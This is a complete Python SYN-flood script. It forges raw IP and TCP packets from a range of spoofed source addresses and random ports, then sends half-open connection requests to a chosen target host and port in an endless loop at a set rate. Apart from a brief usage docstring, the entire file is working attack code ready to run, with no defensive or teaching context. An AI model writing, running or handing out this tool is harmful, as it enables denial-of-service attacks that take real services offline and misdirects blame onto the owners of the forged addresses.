"""
Sends SYNs that nobody will follow up, from made-up addresses and ports.
  syn-flood.py FIRST-SOURCE TARGET PORT PER-SECOND
Sources are the hundred addresses from FIRST-SOURCE on.
"""

import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, target, port):
    sport = random.randrange(1024, 65536)
    segment = struct.pack("!HHIIBBHHH", sport, port, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    # The kernel fills in length, identification and checksum of the IP header.
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + source + target + segment


first, target, port, rate = sys.argv[1:]
sources = [(ipaddress.IPv4Address(first) + at).packed for at in range(100)]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
while True:
    packet = syn(random.choice(sources), ipaddress.IPv4Address(target).packed, int(port))
    raw.sendto(packet, (target, 0))
    time.sleep(1 / int(rate))
